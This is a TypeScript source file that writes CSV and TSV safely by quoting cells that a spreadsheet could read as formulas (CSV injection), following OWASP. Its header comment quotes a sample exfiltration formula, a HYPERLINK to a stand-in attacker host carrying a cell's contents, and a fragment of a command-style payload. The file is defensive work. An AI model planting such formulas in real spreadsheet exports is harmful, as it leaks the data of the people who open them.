// CSV and TSV as Nysa writes them: RFC 4180 through csv-stringify, and safe to open in a spreadsheet.
//
// CSV injection (OWASP, "CSV Injection"): a spreadsheet program reads a cell that starts with "=",
// "+", "-" or "@" as a formula, so a glossary term such as =HYPERLINK("http://evil.example/?d="&A1)
// would run when a coordinator opens the export; tab and carriage return are on OWASP's list too,
// and Apple Numbers reads the full-width ＝ ＋ － ＠ like their ASCII forms. Following OWASP, such a
// cell is written with a single quote before it, and quoted: '=HYPERLINK(…) is plain text to every
// spreadsheet program.
//
// Numbers are no exception: "-5" is written "'-5". Telling a harmless number from a formula
// ("-2+3", "-1+cmd|…") would take a formula parser, and the quote also keeps a spreadsheet from
// turning a term such as "-05" into the number -5.
//
// Reading Nysa's own files back (readSpreadsheetSafeCell): exactly one leading quote is removed when
// what follows the quotes starts like a formula, so an export imports as it was. For that to hold for
// a cell that itself begins with quotes before such a character ("'=x"), the writer adds its quote
// there too ("''=x"). A cell from elsewhere that begins with a quote before "=" loses that one quote
// on import; a quote before anything else ("'Kreis'") is always kept.
import { stringify } from 'csv-stringify/sync';

/** What a spreadsheet may take for the start of a formula. */
const FORMULA_STARTS = new Set(['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']);

/** Whether a spreadsheet could read the cell as a formula. */
export const startsLikeFormula = (cell: string): boolean => cell !== '' && FORMULA_STARTS.has(cell[0]!);

/** How many quotes the cell starts with, if what follows them starts like a formula; else -1. */
function quotesBeforeFormula(cell: string): number {
  let quotes = 0;
  while (cell[quotes] === "'") quotes += 1;
  return quotes < cell.length && FORMULA_STARTS.has(cell[quotes]!) ? quotes : -1;
}

/** The cell as written: one quote more before anything that (after its quotes) starts like a formula. */
export const spreadsheetSafeCell = (cell: string): string => (quotesBeforeFormula(cell) >= 0 ? `'${cell}` : cell);

/** The inverse of spreadsheetSafeCell: one quote less before what (after its quotes) starts like a formula. */
export const readSpreadsheetSafeCell = (cell: string): string => (quotesBeforeFormula(cell) >= 1 ? cell.slice(1) : cell);

export interface CsvWriteOptions {
  /** Field separator; default ",". */
  delimiter?: ',' | ';' | '\t';
  /** Default CRLF, as RFC 4180 and spreadsheet programs have it. */
  recordDelimiter?: '\r\n' | '\n';
}

/**
 * Rows as CSV (or TSV), each row ended by the record delimiter. A cell is quoted when it holds the
 * separator, a quote, a line break, or space at either end (which a spreadsheet would trim), and
 * when spreadsheetSafeCell puts a quote before it.
 */
export function writeSpreadsheetSafeCsv(rows: readonly (readonly string[])[], options: CsvWriteOptions = {}): string {
  return stringify(
    rows.map((row) => [...row]),
    {
      delimiter: options.delimiter ?? ',',
      record_delimiter: options.recordDelimiter ?? '\r\n',
      quote_record_delimiter: true,
      quoted_match: /^\s|\s$/u,
      cast: { string: (cell) => (quotesBeforeFormula(cell) >= 0 ? { value: spreadsheetSafeCell(cell), quoted: true } : cell) },
    },
  );
}
